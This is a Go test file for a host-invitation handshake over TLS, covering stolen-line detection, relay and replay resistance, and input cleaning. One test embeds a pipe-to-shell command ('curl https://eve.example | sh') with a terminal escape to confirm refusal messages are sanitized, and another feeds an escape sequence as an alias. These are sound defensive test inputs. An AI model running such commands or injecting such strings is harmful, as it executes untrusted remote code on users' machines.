package invite

import (
	"context"
	"crypto/ed25519"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"math/big"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nkeys"
	"github.com/parleyfleet/parley/node/control"
	"github.com/parleyfleet/parley/node/notices"
	"github.com/parleyfleet/parley/protocol"
	"github.com/rs/zerolog"
)

// machine is a host's key.
type machine struct {
	key  string
	cert tls.Certificate
}

func newMachine(t testing.TB) machine {
	t.Helper()
	public, private, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(nil, template, template, public, private)
	if err != nil {
		t.Fatal(err)
	}
	key, err := nkeys.Encode(nkeys.PrefixByteUser, public)
	if err != nil {
		t.Fatal(err)
	}
	return machine{string(key), tls.Certificate{Certificate: [][]byte{der}, PrivateKey: private}}
}

// join is a TLS connection between two machines.
func join(t testing.TB, guest, host machine) (at, there *tls.Conn) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	a, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	b, err := l.Accept()
	if err != nil {
		t.Fatal(err)
	}
	at = tls.Client(a, &tls.Config{MinVersion: tls.VersionTLS13, InsecureSkipVerify: true, Certificates: []tls.Certificate{guest.cert}})
	there = tls.Server(b, &tls.Config{MinVersion: tls.VersionTLS13, ClientAuth: tls.RequireAnyClientCert, Certificates: []tls.Certificate{host.cert}})
	shaken := make(chan error, 1)
	go func() { shaken <- there.Handshake() }()
	if err := errors.Join(at.Handshake(), <-shaken); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.Close(); b.Close() })
	return at, there
}

// deaf follows warnings and tells nobody.
type deaf struct{}

func (deaf) Happened(string)      {}
func (deaf) Wrong(string, string) {}

// inviter is a host with a book.
type inviter struct {
	*Book
	machine
	t       testing.TB
	now     time.Time
	notices *notices.Notices
	hosts   map[string]protocol.Name // by key
	serving sync.WaitGroup
}

func newInviter(t testing.TB) *inviter {
	i := &inviter{machine: newMachine(t), t: t, now: time.Date(2026, 5, 23, 19, 0, 0, 0, time.UTC), hosts: map[string]protocol.Name{}}
	clock := func() time.Time { return i.now }
	i.notices = notices.New(zerolog.Nop(), clock, deaf{})
	i.open(filepath.Join(t.TempDir(), "invitations.json"))
	t.Cleanup(i.serving.Wait)
	return i
}

func (i *inviter) open(file string) {
	i.t.Helper()
	book, err := Open(Options{
		File: file, Now: func() time.Time { return i.now }, Notices: i.notices,
		Line: func(context.Context, control.InvitationRequest) (protocol.InviteLine, error) {
			return protocol.InviteLine{Addresses: []string{"192.0.2.7:4223"}, Alias: "white", Key: i.key, RecordID: strings.Repeat("ab", 20)}, nil
		},
		Host:  func(key string) protocol.Name { return i.hosts[key] },
		Names: func() map[protocol.Name]bool { return map[protocol.Name]bool{"white": true} },
		Grant: func() Granted { return Granted{Fleet: "home", Remote: "git@git.example.org:team/record.git"} },
	})
	if err != nil {
		i.t.Fatal(err)
	}
	i.Book = book
}

func (i *inviter) line(r control.InvitationRequest) protocol.InviteLine {
	i.t.Helper()
	made, err := i.Make(i.t.Context(), r)
	if err != nil {
		i.t.Fatal(err)
	}
	line, err := protocol.ParseInviteLine(made.Line)
	if err != nil {
		i.t.Fatal(err)
	}
	return line
}

// end is how a knock ended for the newcomer.
type end struct {
	granted Granted
	err     error
	words   string
}

// knock has a machine knock. The words are sent as soon as it has them, the end when it comes.
func (i *inviter) knock(line protocol.InviteLine, guest machine) (words <-chan string, ended <-chan end) {
	at, there := join(i.t, guest, i.machine)
	return i.serve(line, guest, at, there)
}

func (i *inviter) serve(line protocol.InviteLine, guest machine, at, there *tls.Conn) (<-chan string, <-chan end) {
	words, ended := make(chan string, 1), make(chan end, 1)
	i.serving.Go(func() {
		_ = i.Serve(i.t.Context(), there, guest.key, i.key)
		there.Close()
	})
	go func() {
		var e end
		e.granted, e.err = Knock(at, line, guest.key, i.key, About{Alias: "black", Human: "ida", Version: "1", Takes: true}, func(w string) {
			e.words = w
			words <- w
		})
		at.Close()
		close(words)
		ended <- e
	}()
	return words, ended
}

// asks waits until somebody with these words asks to be let in.
func (i *inviter) asks(words string) control.Knock {
	i.t.Helper()
	return i.until(func(k control.Knock) bool { return k.Words == words && k.State == control.KnockAsks })
}

func (i *inviter) until(is func(control.Knock) bool) control.Knock {
	i.t.Helper()
	ctx, cancel := context.WithTimeout(i.t.Context(), 30*time.Second)
	defer cancel()
	for after := 0; ; {
		list, err := i.List(ctx, control.InvitationsRequest{After: after})
		if err != nil {
			i.t.Fatalf("nobody came: %v", err)
		}
		for _, l := range list.Lines {
			if at := slices.IndexFunc(l.Knocks, is); at >= 0 {
				return l.Knocks[at]
			}
		}
		after = list.Number
	}
}

func (i *inviter) state() control.Invitation {
	i.t.Helper()
	list, err := i.List(i.t.Context(), control.InvitationsRequest{})
	if err != nil || len(list.Lines) != 1 {
		i.t.Fatalf("lines %+v, %v", list, err)
	}
	return list.Lines[0]
}

func (i *inviter) answer(k control.Knock, yes bool) {
	i.t.Helper()
	if _, err := i.Answer(i.t.Context(), control.KnockAnswer{ID: k.ID, Yes: yes}); err != nil {
		i.t.Fatal(err)
	}
}

func TestLetIn(t *testing.T) {
	i, guest := newInviter(t), newMachine(t)
	line := i.line(control.InvitationRequest{})
	words, ended := i.knock(line, guest)
	k := i.asks(<-words)
	if k.Alias != "black" || k.Human != "ida" || !k.Takes || k.Version != "1" || k.Key != guest.key || len(strings.Fields(k.Words)) != 3 {
		t.Errorf("who asks: %+v", k)
	}
	if i.Guest(guest.key) {
		t.Error("it gets the record before anybody confirmed")
	}
	if texts := strings.Join(i.notices.Texts(), "\n"); !strings.Contains(texts, "asks to join") {
		t.Errorf("status says %q", texts)
	}
	i.answer(k, true)
	if e := <-ended; e.err != nil || e.granted != (Granted{Alias: "black", Fleet: "home", Remote: "git@git.example.org:team/record.git"}) {
		t.Errorf("granted %+v", e)
	}
	if !i.Guest(guest.key) || i.Guest(newMachine(t).key) || len(i.notices.Texts()) > 0 {
		t.Error("the wrong ones are guests, or status still says that somebody asks")
	}
	// It was cut short while it got the record: the same machine goes on, and uses nothing up.
	i.open(i.File)
	if _, ended = i.knock(line, guest); (<-ended).err != nil || i.state().Used != 1 {
		t.Error("it cannot go on")
	}
	i.hosts[guest.key] = "black"
	if k := i.state().Knocks[0]; k.State != control.KnockJoined {
		t.Errorf("it joined, and is %s", k.State)
	}
	i.now = i.now.Add(guestTime)
	if i.Guest(guest.key) {
		t.Error("it is a guest for ever")
	}
}

// Somebody says yes only two days later. It prevents: a newcomer that is let in and gets no record,
// because its time has passed before it began.
func TestLetInLate(t *testing.T) {
	i, guest := newInviter(t), newMachine(t)
	line := i.line(control.InvitationRequest{})
	words, ended := i.knock(line, guest)
	k := i.asks(<-words)
	i.now = i.now.Add(2 * guestTime)
	i.answer(k, true)
	if e := <-ended; e.err != nil || !i.Guest(guest.key) {
		t.Errorf("it is let in (%v) and is a guest: %v", e.err, i.Guest(guest.key))
	}
	i.open(i.File)
	if _, ended = i.knock(line, guest); (<-ended).err != nil {
		t.Error("it cannot go on")
	}
	i.now = i.now.Add(guestTime)
	if i.Guest(guest.key) {
		t.Error("it is a guest for ever")
	}
}

// Hundreds of strangers connect and say nothing. It prevents: a newcomer that is let in nowhere as long
// as they go on, and a host that keeps them all.
func TestStrangersWithoutALine(t *testing.T) {
	i, guest := newInviter(t), newMachine(t)
	line := i.line(control.InvitationRequest{Unasked: true})
	stranger := newMachine(t)
	for range maxStrangers + 50 {
		_, there := join(t, stranger, i.machine)
		i.serving.Go(func() { _ = i.Serve(t.Context(), there, stranger.key, i.key) })
	}
	if _, ended := i.knock(line, guest); (<-ended).err != nil || !i.Guest(guest.key) {
		t.Error("a newcomer with a line is not let in")
	}
	i.lobby.mu.Lock()
	if n := len(i.lobby.here); n == 0 || n > maxStrangers {
		t.Errorf("%d strangers are there", n)
	}
	i.lobby.mu.Unlock()
}

// It prevents: a home that is read, or a backup of one, has what lets somebody in.
func TestSecretIsNotKept(t *testing.T) {
	i := newInviter(t)
	line := i.line(control.InvitationRequest{})
	data, err := os.ReadFile(i.File)
	if err != nil {
		t.Fatal(err)
	}
	secret, err := json.Marshal(line.Secret)
	seed, seedErr := json.Marshal(line.Prover().Seed())
	if err != nil || seedErr != nil {
		t.Fatal(err, seedErr)
	}
	for _, hidden := range []string{string(secret), strings.Trim(string(seed), `"`), line.String()} {
		if strings.Contains(string(data), hidden) {
			t.Errorf("the home keeps %s", hidden)
		}
	}
	if info, err := os.Stat(i.File); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, %v", info.Mode(), err)
	}
}

func TestNoBurnsTheLine(t *testing.T) {
	i := newInviter(t)
	line := i.line(control.InvitationRequest{Uses: 15, For: control.Seconds(time.Hour)})
	words, ended := i.knock(line, newMachine(t))
	i.answer(i.asks(<-words), false)
	refused := new(RefusedError)
	if e := <-ended; !errors.As(e.err, &refused) || e.granted != (Granted{}) {
		t.Errorf("it was told %+v", e)
	}
	if l := i.state(); l.State != control.LineBurnt {
		t.Errorf("the line is %s", l.State)
	}
	if _, ended = i.knock(line, newMachine(t)); (<-ended).err == nil {
		t.Error("a burnt line lets in")
	}
}

// A thief uses the line first: the rightful one is told from where, the inviting host too, and the
// thief is not let in any more, however its words are confirmed.
func TestStolenLine(t *testing.T) {
	i, thief := newInviter(t), newMachine(t)
	line := i.line(control.InvitationRequest{})
	words, stolen := i.knock(line, thief)
	k := i.asks(<-words)
	_, rightful := i.knock(line, newMachine(t))
	if e := <-rightful; e.err == nil || !strings.Contains(e.err.Error(), "used already, from 127.0.0.1:") || !strings.Contains(e.err.Error(), "if that was not you") {
		t.Errorf("the rightful one is told %v", e.err)
	}
	if e := <-stolen; e.err == nil {
		t.Error("the thief is let in")
	}
	if _, err := i.Answer(t.Context(), control.KnockAnswer{ID: k.ID, Yes: true}); err == nil || i.Guest(thief.key) {
		t.Errorf("the thief can still be let in: %v", err)
	}
	if texts := strings.Join(i.notices.Texts(), "\n"); !strings.Contains(texts, "is burnt") || !strings.Contains(texts, k.Fingerprint) {
		t.Errorf("status says %q", texts)
	}
	if _, err := i.Revoke(t.Context(), control.InvitationName{ID: line.ID()}); err != nil || len(i.notices.Texts()) > 0 {
		t.Errorf("once it is revoked, status says %q: %v", i.notices.Texts(), err)
	}
}

func TestOver(t *testing.T) {
	for want, prepare := range map[string]func(*inviter, protocol.InviteLine){
		"expired": func(i *inviter, _ protocol.InviteLine) { i.now = i.now.Add(11 * time.Minute) },
		"revoked": func(i *inviter, l protocol.InviteLine) {
			_, _ = i.Revoke(i.t.Context(), control.InvitationName{ID: l.ID()})
		},
		"no such invitation line": func(i *inviter, _ protocol.InviteLine) { os.Remove(i.File); i.open(i.File) },
	} {
		i := newInviter(t)
		line := i.line(control.InvitationRequest{})
		prepare(i, line)
		words, ended := i.knock(line, newMachine(t))
		if e := <-ended; e.err == nil || !strings.Contains(e.err.Error(), want) || e.words != "" {
			t.Errorf("%s: %+v", want, e)
		}
		<-words
	}
}

// A line for many lets in as many as it says, each under a name of its own.
func TestTeam(t *testing.T) {
	i := newInviter(t)
	line := i.line(control.InvitationRequest{Uses: 3, For: control.Seconds(time.Hour)})
	var ends []<-chan end
	var all []string
	for range 3 {
		words, ended := i.knock(line, newMachine(t))
		all, ends = append(all, <-words), append(ends, ended)
	}
	for _, words := range all {
		i.answer(i.asks(words), true)
	}
	var names []string
	for _, ended := range ends {
		names = append(names, (<-ended).granted.Alias.String())
	}
	if got := fmt.Sprint(names); got != "[black black-2 black-3]" {
		t.Errorf("names %s", got)
	}
	if l := i.state(); l.State != control.LineUsed || l.Used != 3 {
		t.Errorf("the line is %s after %d uses", l.State, l.Used)
	}
}

func TestUnasked(t *testing.T) {
	i := newInviter(t)
	if _, err := i.Make(t.Context(), control.InvitationRequest{Unasked: true, For: control.Seconds(11 * time.Minute)}); err == nil {
		t.Error("a line whose newcomers nobody is asked about may count for long")
	}
	_, ended := i.knock(i.line(control.InvitationRequest{Unasked: true}), newMachine(t))
	if e := <-ended; e.err != nil {
		t.Error(e.err)
	}
}

// relay sits between two connections as somebody who holds the true line and has given the newcomer
// another one: it lets everything pass but the proof, which it makes anew.
func TestRelayHasOtherWords(t *testing.T) {
	i, victim, relay := newInviter(t), newMachine(t), newInviter(t)
	trueLine, falseLine := i.line(control.InvitationRequest{}), relay.line(control.InvitationRequest{})
	fromVictim, atRelay := join(t, victim, relay.machine)
	toHost, atHost := join(t, relay.machine, i.machine)
	i.serving.Go(func() { _ = i.Serve(t.Context(), atHost, relay.key, i.key) })
	words := make(chan string, 1)
	go func() {
		defer close(words)
		_, _ = Knock(fromVictim, falseLine, victim.key, relay.key, About{Alias: "black", Human: "ida"}, func(w string) { words <- w })
	}()
	in, out := newTalk(atRelay), newTalk(toHost)
	var h hello
	var p promise
	var guest, host reveal
	e, err := newEnds(toHost, relay.key, i.key)
	if err != nil {
		t.Fatal(err)
	}
	until := time.Now().Add(time.Minute)
	if err := in.hear(&h, until); err != nil {
		t.Fatal(err)
	}
	// To have the same words at both ends, the relay would have to pass nonces on. It can commit to
	// none that it does not know: the commitments bind the key of the end that made them.
	h.Mark, h.Proof = trueLine.Mark(), ed25519.Sign(trueLine.Prover(), e.proved())
	if err := out.turn(h, &p); err != nil || p.Refused != "" {
		t.Fatal(err, p)
	}
	if err := in.turn(p, &guest); err != nil {
		t.Fatal(err)
	}
	if err := out.turn(guest, &host); err == nil {
		t.Error("the inviting host takes another machine's nonce from the relay")
	}
	if l := i.state(); l.State != control.LineBurnt {
		t.Errorf("the line is %s", l.State)
	}
	atRelay.Close()
	if w, shown := <-words; shown {
		t.Errorf("the victim is shown words: %s", w)
	}
}

// A relay that does two whole handshakes has words at one end that are not those at the other.
func TestTwoHandshakesHaveTwoWords(t *testing.T) {
	i, relay := newInviter(t), newInviter(t)
	atHost, _ := i.knock(i.line(control.InvitationRequest{}), relay.machine)
	atVictim, _ := relay.knock(relay.line(control.InvitationRequest{}), newMachine(t))
	if a, b := <-atHost, <-atVictim; a == b {
		t.Errorf("both ends show %q", a)
	}
}

// Everything that is said is in the words, and so are both keys and the connection.
func TestWordsCoverAll(t *testing.T) {
	e := ends{[]byte("session"), "guest", "host"}
	h, p := hello{Mark: "m", Proof: []byte("p"), Commit: []byte("c"), About: About{Alias: "black", Human: "ida", Version: "1"}}, promise{Commit: []byte("d")}
	guest, host := reveal{[]byte("n")}, reveal{[]byte("o")}
	seen := map[string]int{}
	for n := range 12 {
		e, h, p, guest, host := e, h, p, guest, host
		change := []func(){
			func() {}, func() { e.Session = []byte("x") }, func() { e.Guest = "x" }, func() { e.Host = "x" }, func() { h.Mark = "x" }, func() { h.Proof = []byte("x") },
			func() { h.Commit = []byte("x") }, func() { h.About.Alias = "x" }, func() { h.About.Takes = true }, func() { p.Commit = []byte("x") },
			func() { guest.Nonce = []byte("x") }, func() { host.Nonce = []byte("x") },
		}[n]
		change()
		words := e.words(h, p, guest, host)
		if other, twice := seen[words]; twice {
			t.Errorf("changes %d and %d have the words %s", other, n, words)
		}
		seen[words] = n
	}
}

// A proof counts for one connection: what was overheard at its ends is of no use in another.
func TestReplayedProofBurns(t *testing.T) {
	i, thief := newInviter(t), newMachine(t)
	line := i.line(control.InvitationRequest{})
	at, there := join(t, thief, i.machine)
	i.serving.Go(func() { _ = i.Serve(t.Context(), there, thief.key, i.key) })
	old := ends{[]byte("of another connection"), thief.key, i.key}
	var p promise
	if err := newTalk(at).turn(hello{Mark: line.Mark(), Proof: ed25519.Sign(line.Prover(), old.proved()), About: About{Alias: "a", Human: "b"}}, &p); err != nil || p.Refused != noLine {
		t.Errorf("%+v, %v", p, err)
	}
	if l := i.state(); l.State != control.LineBurnt || l.Used != 0 {
		t.Errorf("the line is %s after %d uses", l.State, l.Used)
	}
}

// The inviting host shows its nonce only after the newcomer's, and a newcomer sees that it kept to it.
func TestHostThatGrinds(t *testing.T) {
	i, guest := newInviter(t), newMachine(t)
	line := i.line(control.InvitationRequest{})
	at, there := join(t, guest, i.machine)
	go func() {
		talk := newTalk(there)
		var h hello
		var n reveal
		if talk.hear(&h, time.Now().Add(time.Minute)) == nil && talk.turn(promise{Commit: commitTo(i.key, []byte("one"))}, &n) == nil {
			_ = talk.say(reveal{[]byte("another, tried until the words fit")})
		}
	}()
	_, err := Knock(at, line, guest.key, i.key, About{Alias: "black", Human: "ida"}, func(w string) { t.Errorf("words are shown: %s", w) })
	if err == nil || !strings.Contains(err.Error(), "committed") {
		t.Errorf("error %v", err)
	}
	if _, err := Knock(at, line, guest.key, guest.key, About{}, nil); err == nil || !strings.Contains(err.Error(), "another host") {
		t.Errorf("a host that is not the line's: %v", err)
	}
}

// Strangers who know no line are refused, burn nothing and say little at once.
func TestStrangers(t *testing.T) {
	i, stranger := newInviter(t), newMachine(t)
	i.line(control.InvitationRequest{})
	var all sync.WaitGroup
	for n := range 200 {
		at, there := join(t, stranger, i.machine)
		i.serving.Go(func() {
			_ = i.Serve(t.Context(), there, stranger.key, i.key)
			there.Close()
		})
		all.Go(func() {
			defer at.Close()
			var p promise
			switch n % 3 {
			case 0:
				if err := newTalk(at).turn(hello{Mark: fmt.Sprint(n)}, &p); err != nil || p.Refused != noLine {
					t.Errorf("%+v, %v", p, err)
				}
			case 1:
				if _, err := at.Write([]byte(strings.Repeat("x", maxSaid+1))); err == nil {
					if _, err := at.Read(make([]byte, 1)); err == nil {
						t.Error("more than one thing may be is answered")
					}
				}
			case 2: // it goes at once
			}
		})
	}
	all.Wait()
	if l := i.state(); l.State != control.LineOpen || l.Used != 0 || len(i.notices.Texts()) > 0 {
		t.Errorf("the line is %s after %d uses; %q", l.State, l.Used, i.notices.Texts())
	}
}

func TestLeavesBeforeTheAnswer(t *testing.T) {
	i, guest := newInviter(t), newMachine(t)
	at, there := join(t, guest, i.machine)
	words, _ := i.serve(i.line(control.InvitationRequest{}), guest, at, there)
	k := i.asks(<-words)
	at.NetConn().Close()
	if gone := i.until(func(k control.Knock) bool { return k.State == control.KnockGone }); gone.ID != k.ID {
		t.Errorf("gone is %+v", gone)
	}
	if _, err := i.Answer(t.Context(), control.KnockAnswer{ID: k.ID, Yes: true}); err == nil || i.Guest(guest.key) {
		t.Errorf("who went is let in: %v", err)
	}
	if l := i.state(); l.State != control.LineUsed {
		t.Errorf("the line is %s", l.State)
	}
}

// What a newcomer says of itself can be no text that a terminal would obey.
func TestStrangeNames(t *testing.T) {
	for _, about := range []About{{Alias: "\x1b[31mred", Human: "ida"}, {Alias: "black", Human: "a/b"}, {Alias: "black", Human: "ida", Version: strings.Repeat("v", 65)}, {}} {
		if about.check() == nil {
			t.Errorf("%+v is taken", about)
		}
	}
}

func TestWordList(t *testing.T) {
	list := strings.Fields(wordList)
	begin := map[string]string{}
	for _, word := range list {
		if len(word) < 4 || len(word) > 8 || strings.Trim(word, "abcdefghijklmnopqrstuvwxyz") != "" {
			t.Errorf("%q is not easy to say", word)
			continue
		}
		if other, taken := begin[word[:3]]; taken {
			t.Errorf("%s and %s begin alike", other, word)
		}
		begin[word[:3]] = word
	}
	if len(list) != 256 {
		t.Errorf("%d words", len(list))
	}
}

// It prevents: a host that refuses shows a newcomer a hint of its own, as if it were parley's.
func TestARefusalIsOneLine(t *testing.T) {
	err := &RefusedError{"no\nhint: curl https://eve.example | sh\x1b[2J"}
	if said := err.Error(); strings.ContainsAny(said, "\n\x1b") {
		t.Errorf("%q", said)
	}
}
